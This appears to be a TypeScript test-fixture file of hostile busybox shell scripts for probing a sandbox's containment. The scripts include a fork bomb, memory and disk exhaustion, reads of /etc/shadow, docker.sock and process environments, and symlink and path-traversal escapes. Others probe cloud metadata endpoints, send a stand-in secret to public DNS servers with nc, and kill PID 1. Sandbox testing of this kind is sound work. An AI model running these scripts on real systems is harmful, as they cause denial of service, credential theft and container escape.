/** Hostile programs as scripts for the shell in busybox, which is all that their image has. */

/** Every process starts two more, and then none of them ends. */
export const FORK_BOMB = `bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do :; done`

export const TAKE_MEMORY = `exec busybox awk 'BEGIN { all = "x"; while (1) all = all all }'`

/** No byte of its own: names of empty files, which the kernel keeps. */
export const FILL_KERNEL = `i=0
while :; do
  : >/dev/shm/$i
  i=$((i + 1))
done`

export const RECURSE = `again() { again; }
again`

export const LOOP = 'while :; do :; done'

/** Prints what it could write, in bytes, wherever it may write at all but to memory. */
export const FILL_DISK = `for folder in / /bin /etc /dev /proc /proc/sys/kernel /sys /sys/fs/cgroup /input /output; do
  busybox cat /dev/zero 2>/dev/null >$folder/fill
  busybox cat $folder/fill
done 2>/dev/null | busybox wc -c
busybox rm /output/fill`

/** More empty files than anybody takes, then it ends as if nothing were. */
export const MAKE_FILES = `cd /output
i=0
while [ $i -lt 30000 ]; do
  : >$i || exit 0
  i=$((i + 1))
done 2>/dev/null`

/** Far deeper than a path may be long, with a file at the bottom. */
export const NEST_FOLDERS = `cd /output
name=$(busybox printf %0100d 0)
folders=$name
while [ \${#folders} -lt 3000 ]; do folders=$folders/$name; done
i=0
while [ $i -lt 10 ]; do
  busybox mkdir -p $folders && cd -P $folders || exit 1
  i=$((i + 1))
done 2>/dev/null
printf deep >bottom`

export const FLOOD = 'exec busybox cat /dev/zero'

/** Prints whatever of these it can read or list. */
export const LEAVE_FOLDERS = `cd /output
for root in / ../../../../../../../ /input/../../ /proc/1/root/../ /proc/self/cwd/../../; do
  busybox cat $root/etc/shadow $root/etc/machine-id $root/var/run/docker.sock
  busybox ls $root/home $root/root $root/var $root/usr
done 2>/dev/null`

/** Its output folder is a link already, in the image; it adds links of its own and writes through all of them. */
export const LINK_OUT = `cd /output/ || exit 0
busybox ln -s /etc/passwd passwd
busybox ln -s ../../../../../../../../etc etc
busybox ln -s /proc/1/root root
busybox ln -s . self
: >planted`

/** What a shell sees of all processes there are. */
export const READ_PROCESSES = `busybox cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | busybox tr '\\0' '\\n'
busybox head -c 100 /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug 2>/dev/null`

export const PRINT_VARIABLES = 'busybox env'

/** Says so where somebody answers. */
export const connectTo = (port: number) => `for address in 127.0.0.1 localhost 172.17.0.1 ::1 0.0.0.0; do
  busybox nc -w 1 $address ${port} </dev/null && echo answered
done 2>/dev/null
exit 0`

export const ASK_CLOUD = `for address in 169.254.169.254 [fd00:ec2::254] metadata.google.internal; do
  busybox wget -q -T 1 -O - http://$address/latest/meta-data/
done 2>/dev/null
for family in -4 -6; do busybox ip $family route; done 2>/dev/null | busybox grep -v 'dev lo'
exit 0`

/** The secret goes into the name that is asked for. */
export const ASK_FOR_NAMES = `for server in $(busybox sed -n 's/^nameserver //p' /etc/resolv.conf) 1.1.1.1 8.8.8.8; do
  busybox timeout 2 busybox nslookup secret.example $server | busybox grep Name
  printf secret | busybox nc -u -w 1 $server 53 && echo sent
done 2>/dev/null
exit 0`

/** Ends all that it may, itself last of all. */
export const END_OTHERS = `kill -9 1
kill -9 $PPID
kill -9 -1
kill -STOP 1
kill -TERM 1
while :; do busybox sleep 1; done`

export const ABUSE_CLOCK = `busybox date -s 2000-01-01
[ $(busybox date +%Y) = 2000 ] && exit 1
busybox hwclock -w && exit 1
exec busybox sleep 1000000d`

/** Prints where its folder is, which is none of its own, and what is above that. */
export const USE_STALE = `busybox readlink /proc/self/cwd
busybox ls -a . ../../../..`

/** Names that mean something else to whoever writes them down; what cannot be made is left out. */
export const TRICK_PATHS = `cd /output
busybox mkdir -p 'a
..' ...
busybox touch ../planted ..//planted 'a
../b' -- -c '\\..\\d' C:e .../f 'é
14 path=../g
j' 'é
18 size=999999999
h' 'é
22 GNU.sparse.major=1
i'
busybox mkfifo pipe
busybox mknod device c 1 3
busybox ln -s ../planted link
exit 0`
